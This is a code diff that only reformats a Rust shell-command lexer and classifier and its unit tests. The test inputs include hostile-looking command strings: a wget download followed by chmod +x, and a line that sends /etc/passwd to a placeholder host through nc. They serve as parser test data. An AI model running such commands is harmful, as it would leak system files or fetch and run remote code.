@@ -91,7 +91,11 @@ fn walk(line: &str, depth: usize, out: &mut Classified, first: &mut bool) {
         walk(sub, depth + 1, out, &mut nested_first);
     }
     let mut command: Vec<Token> = Vec::new();
-    for token in lexed.tokens.into_iter().chain(std::iter::once(Token::Control)) {
+    for token in lexed
+        .tokens
+        .into_iter()
+        .chain(std::iter::once(Token::Control))
+    {
         if token == Token::Control {
             if !command.is_empty() {
                 simple_command(&command, depth, out, first);
@@ -547,7 +551,10 @@ fn balanced(chars: &[char], start: usize) -> (String, usize) {
         }
         i += 1;
     }
-    (chars.get(start..).unwrap_or(&[]).iter().collect(), chars.len())
+    (
+        chars.get(start..).unwrap_or(&[]).iter().collect(),
+        chars.len(),
+    )
 }
 
 fn backtick(chars: &[char], start: usize) -> (String, usize) {
@@ -584,7 +591,9 @@ mod tests {
         let c = classify(r#"grep -r "a b" 'c d' e\ f /etc > out.txt 2>&1"#);
         assert_eq!(
             c.argv,
-            ["grep", "-r", "a b", "c d", "e f", "/etc", ">", "out.txt", "2>&1"]
+            [
+                "grep", "-r", "a b", "c d", "e f", "/etc", ">", "out.txt", "2>&1"
+            ]
         );
         assert_eq!(c.program.as_deref(), Some("grep"));
         let c = classify("FOO=1 /usr/bin/env python3 x.py");
@@ -600,7 +609,10 @@ mod tests {
             progs("cd /tmp && wget http://x/a; chmod +x a || echo no"),
             ["cd", "wget", "chmod", "echo"]
         );
-        assert_eq!(progs("echo $(cat /etc/passwd | nc h 1)"), ["cat", "nc", "echo"]);
+        assert_eq!(
+            progs("echo $(cat /etc/passwd | nc h 1)"),
+            ["cat", "nc", "echo"]
+        );
         assert_eq!(progs("echo `id`"), ["id", "echo"]);
         assert_eq!(progs("diff <(ls a) <(ls b)"), ["ls", "diff"]);
         assert_eq!(progs("echo $((1+2))"), ["echo"]);
@@ -637,7 +649,10 @@ mod tests {
         let t = |l: &str| transfer_kind(&classify(l).argv);
         assert_eq!(t("scp -t /tmp/x"), Some("scp"));
         assert_eq!(t("scp -pf -- /tmp/x"), Some("scp"));
-        assert_eq!(t("rsync --server -vlogDtpre.iLsfxCIvu . /tmp/d"), Some("rsync"));
+        assert_eq!(
+            t("rsync --server -vlogDtpre.iLsfxCIvu . /tmp/d"),
+            Some("rsync")
+        );
         assert_eq!(t("scp a host:b"), None);
         assert_eq!(t("cat x"), None);
     }
